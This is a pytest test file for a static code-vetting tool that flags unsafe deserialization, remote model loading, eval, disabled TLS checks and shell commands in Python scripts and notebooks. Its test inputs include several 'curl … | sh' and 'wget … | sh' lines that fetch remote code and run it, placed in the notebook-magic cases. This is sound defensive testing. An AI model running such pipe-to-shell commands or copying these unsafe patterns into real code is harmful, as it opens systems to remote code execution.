"""The rule pack: names are followed, ordinary code passes, and nothing is executed or breaks it."""

from __future__ import annotations

import json
import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealwright.vetting.code import source
from sealwright.vetting.code.checks import CODE_CHECKS
from sealwright.vetting.code.sinks import CHECK, Found, examine_notebook, examine_source
from sealwright.vetting.interface import Member, conclude
from tests.vetting.code.training_scripts import CAREFUL, EXAMPLES

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def rules(text: str | bytes, *, where: str = "train.py", imported: bool | None = None) -> set[str]:
    found = Found()
    examine_source(text, found, where=where, imported=imported)
    return {seen.rule.id for seen in found.observations}


@pytest.mark.parametrize("name", CAREFUL)
def test_a_careful_engineers_code_meets_no_rule_but_notes(name: str) -> None:
    found = Found()
    assert examine_source(CAREFUL[name], found, where="train.py")
    assert {seen.rule.effect for seen in found.observations} <= {"note"}


@pytest.mark.parametrize("name", EXAMPLES)
def test_an_ordinary_example_passes_with_warnings(name: str) -> None:
    found = Found()
    assert examine_source(EXAMPLES[name], found, where="train.py")
    assert conclude(found.observations, complete=True) == "pass", found.observations


def test_no_engine_fails_an_ordinary_script() -> None:
    files = tuple(
        Member(path=f"{name}.py", data=text.encode()) for name, text in (CAREFUL | EXAMPLES).items()
    )
    for check in CODE_CHECKS:
        effects = {seen.rule.effect for seen in check.examine(files).observations}
        assert effects <= {"note", "warn"}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("import joblib\njoblib.load('m')", "SW-CODE-102"),
        ("import joblib as j\nload = j.load\nload('m')", "SW-CODE-102"),
        ("from sklearn.externals import joblib\njoblib.load('m')", "SW-CODE-102"),
        ("import _pickle\n_pickle.loads(b'')", "SW-CODE-102"),
        ("import pickle as p\np.Unpickler(open('x')).load()", "SW-CODE-102"),
        ("from dill import *\nloads(b'')", "SW-CODE-102"),
        ("import pandas as pd\npd.read_pickle('x')", "SW-CODE-102"),
        ("import cloudpickle\nx = cloudpickle if 1 else None\nx.load(f)", "SW-CODE-102"),
        ("import functools, pickle\nf = functools.partial(pickle.load)\nf(g)", "SW-CODE-102"),
        ("import importlib\nimportlib.import_module('pickle').loads(b'')", "SW-CODE-102"),
        ("def f():\n    from pickle import loads\n    return lambda b: loads(b)", "SW-CODE-102"),
        ("class A:\n    import pickle\n    x = pickle.loads(b'')", "SW-CODE-102"),
        ("import numpy\nnumpy.load('x', allow_pickle=True)", "SW-CODE-103"),
        ("import numpy as np\nnp.load('x', None, True)", "SW-CODE-103"),
        ("import torch\ntorch.load('x')", "SW-CODE-104"),
        ("import torch\ntorch.load('x', weights_only=False)", "SW-CODE-104"),
        ("import torch\ntorch.hub.load('a/b', 'c')", "SW-CODE-105"),
        ("X.from_pretrained('org/name')", "SW-CODE-106"),
        ("X.from_pretrained('org/name', revision='main')", "SW-CODE-106"),
        ("from huggingface_hub import snapshot_download as s\ns('org/name')", "SW-CODE-106"),
        ("import datasets\ndatasets.load_dataset('imdb')", "SW-CODE-106"),
        ("X.from_pretrained('./here', trust_remote_code=True)", "SW-CODE-107"),
        ("import keras\nkeras.models.load_model('m', safe_mode=False)", "SW-CODE-108"),
        ("import keras\nkeras.config.enable_unsafe_deserialization()", "SW-CODE-108"),
        ("import tensorflow as tf\ntf.saved_model.load('gs://b/m')", "SW-CODE-109"),
        ("import tensorflow_hub as hub\nhub.load('https://tfhub.dev/x/1')", "SW-CODE-109"),
        ("import yaml\nyaml.load(x, Loader=yaml.FullLoader)", "SW-CODE-110"),
        ("import yaml\nyaml.unsafe_load(x)", "SW-CODE-110"),
        ("import skops.io as sio\nsio.load('m', trusted=True)", "SW-CODE-112"),
        (
            "import skops.io as sio\nu = sio.get_untrusted_types(file='m')\nsio.load('m', "
            "trusted=u)",
            "SW-CODE-112",
        ),
        ("def f(x):\n    return eval(x)", "SW-CODE-113"),
        ("import requests\nrequests.get(u, verify=False)", "SW-CODE-128"),
        ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
         "SW-CODE-128"),
        ("import sys\nsys.settrace(f)", "SW-CODE-129"),
        ("import ctypes\nctypes.CDLL('x.so')", "SW-CODE-129"),
        ("import os\nos.system('pip install x')", "SW-CODE-132"),
    ],
)  # fmt: skip
def test_a_name_is_followed_to_its_sink(text: str, rule: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "import json\njson.load(f)",
        "def f(pickle):\n    return pickle.loads(b'')",
        "import torch\ntorch.load('x', weights_only=True)",
        "import torch\ntorch.load('x', **options)",
        "import numpy as np\nnp.load('x', allow_pickle=False)",
        f"X.from_pretrained('org/name', revision='{COMMIT}')",
        "X.from_pretrained('./local')",
        "X.from_pretrained('/srv/model')",
        "X.from_pretrained(path)",
        "X.from_pretrained('org/name', local_files_only=True)",
        "X.from_pretrained('a', trust_remote_code=False, local_files_only=True)",
        "import datasets\ndatasets.load_dataset('parquet', data_files='x')",
        "import yaml\nyaml.load(x, Loader=yaml.CSafeLoader)",
        "import yaml\nyaml.safe_load(x)",
        "import ast\nast.literal_eval(x)",
        "import re\nre.compile(pattern)",
        "model.eval()",
        "frame.eval('a + b')",
        "import os\nos.environ['A'] = 'b'\nprint(os.environ)",
        "eval('1 + 1')",
        "class A:\n    def load(self, x):\n        return x\nA().load(1)",
    ],
)
def test_what_only_looks_like_a_sink_is_none(text: str) -> None:
    assert rules(text) == set()


def test_import_time_is_told_from_run_time() -> None:
    call = "import subprocess\ndef go():\n    subprocess.run(['ls'])\n"
    assert rules(call) == set()
    assert rules(call + "if __name__ == '__main__':\n    go()\n") == set()
    assert rules(call + "go()\n") == {"SW-CODE-118"}
    assert rules(call + "go()\n", imported=True) == {"SW-CODE-119"}
    git = "import subprocess\nsubprocess.check_output(['git', 'describe'])\n"
    assert rules(git, where="setup.py") == set()


def notebook(*cells: str, **more: object) -> bytes:
    listed = [{"cell_type": "code", "source": text, "outputs": []} for text in cells]
    return json.dumps({"nbformat": 4, "cells": listed, **more}).encode()


def test_notebook_cells_are_one_program_with_places() -> None:
    found = Found()
    data = notebook(
        "import pickle as p", "%matplotlib inline\nx = 1\np.loads(b'')", "!pip install q"
    )
    assert examine_notebook(data, found, where="n.ipynb")
    said = {(seen.rule.id, seen.finding.location) for seen in found.observations}
    assert said == {("SW-CODE-102", "n.ipynb#cell-2:3"), ("SW-CODE-132", "n.ipynb#cell-3:1")}


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("!curl http://x.invalid/a | sh", "SW-CODE-120"),
        ("%%bash\ncurl http://x.invalid/a | bash", "SW-CODE-120"),
        ("out = !wget -qO- http://x.invalid/a | sh", "SW-CODE-120"),
        ("!curl http://x.invalid/a \\\n | sh", "SW-CODE-120"),
        ("%sx curl http://x.invalid/a | sh", "SW-CODE-120"),
        ("!nvidia-smi", "SW-CODE-135"),
        ("%pip install x", "SW-CODE-132"),
        ("%%time\nimport pickle\npickle.loads(b'')", "SW-CODE-102"),
        ("%time __import__('pickle').loads(b'')", "SW-CODE-102"),
        ("%%mystery\nx", "SW-CODE-101"),
        ("get_ipython().system('curl http://x.invalid | sh')", "SW-CODE-120"),
        ("def (:", "SW-CODE-101"),
    ],
)
def test_magics_of_a_notebook_are_judged(cell: str, rule: str) -> None:
    found = Found()
    examine_notebook(notebook(cell), found, where="n.ipynb")
    assert rule in {seen.rule.id for seen in found.observations}


def test_an_ordinary_notebook_is_quiet() -> None:
    found = Found()
    cells = ["%load_ext autoreload\n%autoreload 2", "import numpy as np\nnp?", "x = 5 % 3\nx", ""]
    assert examine_notebook(notebook(*cells), found, where="n.ipynb")
    assert found.observations == []


@pytest.mark.parametrize(
    "data",
    [
        b"", b"{}", b"[]", b"{", b"\xff", b"[" * 100_000,
        notebook("x", metadata={"kernelspec": {"language": "julia"}}),
        json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": 5}]}).encode(),
    ],
)  # fmt: skip
def test_what_is_no_python_notebook_is_inconclusive(data: bytes) -> None:
    found = Found()
    assert not examine_notebook(data, found, where="n.ipynb")
    assert {seen.rule.id for seen in found.observations} == {"SW-CODE-101"}


def test_the_check_reads_python_and_notebooks_and_says_which() -> None:
    files = (
        Member(path="c/a.py", data=b"import pickle\npickle.loads(b'')"),
        Member(path="c/b.ipynb", data=notebook("eval(x)")),
        Member(path="c/c.txt", data=b"eval(x)"),
        Member(path="c/d.py", data=b"def ("),
    )
    seen = CHECK.examine(files)
    assert seen.examined == {"c/a.py", "c/b.ipynb"}
    assert [one.finding.location for one in seen.observations] == [
        "c/a.py:2", "c/b.ipynb#cell-1:1", "c/d.py",
    ]  # fmt: skip


def test_a_file_that_is_too_large_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "MAX_SOURCE", 10)
    assert rules("x = 1 + 1 + 1") == {"SW-CODE-101"}


def test_nothing_of_the_source_is_executed(tmp_path: Path) -> None:
    place = tmp_path / "ran"
    text = f"import pathlib\npathlib.Path({str(place)!r}).touch()\nimport nothing_of_the_kind\n"
    assert rules(text) == set()
    assert not place.exists()


WORDS = ["import os", "pickle", "exec(", ")", "getattr", "=", "def f(x):\n ", "lambda: ", "'a'+'b'",
         "\n", ".", "[", "]", "os.environ", "for x in ", "class A:\n ", "return ", "x", "*", "**",
         "from a import *\n", "with ", " as y:\n ", "if ", "else", ":", ",", "f'{x}'",
         "yield ", "5"]  # fmt: skip


@given(st.lists(st.sampled_from(WORDS), max_size=30).map("".join))
def test_any_words_of_python_are_read_or_refused(text: str) -> None:
    found = Found()
    read = examine_source(text, found, where="x.py")
    assert read or "SW-CODE-101" in {seen.rule.id for seen in found.observations}


@given(st.one_of(st.binary(max_size=300), st.text(string.printable, max_size=200).map(str.encode)))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    examine_source(data, Found(), where="x.py")
    examine_notebook(data, Found(), where="x.ipynb")
    examine_notebook(notebook(data.decode("latin-1")), Found(), where="x.ipynb")


@pytest.mark.parametrize(
    "text",
    [
        "g = getattr\ng = vars\ng = __import__\nx = " + "g(" * 80 + "y" + ")" * 80,
        "x = " + "+".join(["'a'"] * 3_000),
        "\n".join(f"x{n} = x{n - 1} + x{n - 1}" for n in range(1, 400)),
        "\n".join(f"x{n} = '' .join([x{n - 1}, x{n - 1}])" for n in range(1, 200)),
        "x = " + "lambda: " * 150 + "1",
        "x = " + "not " * 3_000 + "1",
        "x = [" + "f(1)," * 20_000 + "]",
        "if a:\n pass\n" + "elif a:\n pass\n" * 2_000,
    ],
    ids=["alternatives", "sum", "doubling", "joining", "lambdas", "not", "wide", "elif"],
)
def test_odd_shapes_end(text: str) -> None:
    examine_source(text, Found(), where="x.py")
